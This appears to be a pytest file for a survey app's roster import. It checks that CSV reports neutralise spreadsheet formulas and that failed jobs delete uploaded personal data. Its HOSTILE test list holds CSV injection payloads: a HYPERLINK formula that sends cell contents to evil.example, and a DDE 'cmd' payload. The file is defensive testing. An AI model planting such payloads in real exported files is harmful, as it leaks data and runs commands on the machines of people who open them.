"""Hostile or failing roster jobs: the import report (a CSV the admin opens in Excel or WPS)
repeats the file's own headers in its problems, and a hostile header such as
``=HYPERLINK(...)`` comes back as text, never as a formula (formula_safety, OWASP CSV
injection); a roster job that fails for good leaves no sealed upload (names, ID numbers)
behind."""

from __future__ import annotations

import csv
import io

import pytest

from survey_app import job_queue
from survey_app.services.formula_safety import FORMULA_PREFIXES
from tests.factories import login, make_campaign, make_user
from tests.services import rosters

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2;"点击")', "+cmd|' /C calc'!A0",
           "＝1+1", "@SUM(1)"]


@pytest.fixture
def roster_app(make_app, tmp_path):
    return make_app(JOB_FILES_DIR=str(tmp_path), JOB_ROSTER_BYTES=1, JOB_LEASE_SECONDS=600)


def test_roster_report_neutralises_formulas_from_the_file(roster_app):
    from survey_app.models import Role

    client = roster_app.test_client()
    with roster_app.app_context():
        from survey_app.extensions import db

        make_campaign(db.session, slug="hostile")
        login(client, make_user(db.session, Role.ADMIN))
        text = io.StringIO()
        csv.writer(text).writerows([[*rosters.HEADER_ZH, *HOSTILE],
                                    rosters.rows(1)[0] + ["x"] * len(HOSTILE)])
        answer = client.post("/admin/campaigns/hostile/roster",
                             data={"roster": (io.BytesIO(text.getvalue().encode()), "名册.csv")},
                             content_type="multipart/form-data")
        job_id = int(answer.headers["Location"].rsplit("#job-", 1)[1])
        assert job_queue.run_now(job_id) == "done"
        download = client.get(f"/evaluate/jobs/{job_id}/download")
        report = list(csv.reader(io.StringIO(download.get_data().decode("utf-8-sig"))))
        download.close()

    assert report[1][0] == "refused"
    columns = [row[3] for row in report[1:]]
    assert {f"'{h}" for h in HOSTILE} <= set(columns)
    assert not [cell for row in report for cell in row if cell.startswith(FORMULA_PREFIXES)]


def test_a_failed_roster_job_removes_its_sealed_upload(roster_app, tmp_path, monkeypatch):
    from survey_app.models import Role
    from survey_app.services import roster

    def broken(*_args, **_kwargs):
        raise RuntimeError("the database went away")

    client = roster_app.test_client()
    with roster_app.app_context():
        from survey_app.extensions import db

        make_campaign(db.session, slug="failing")
        login(client, make_user(db.session, Role.ADMIN))
        data = rosters.csv_text(rosters.rows(3)).encode()
        answer = client.post("/admin/campaigns/failing/roster",
                             data={"roster": (io.BytesIO(data), "名册.csv")},
                             content_type="multipart/form-data")
        job_id = int(answer.headers["Location"].rsplit("#job-", 1)[1])
        assert (tmp_path / f"job-{job_id}.upload").exists()
        monkeypatch.setattr(roster, "import_roster", broken)
        assert job_queue.run_now(job_id) == "failed"
    assert not (tmp_path / f"job-{job_id}.upload").exists()
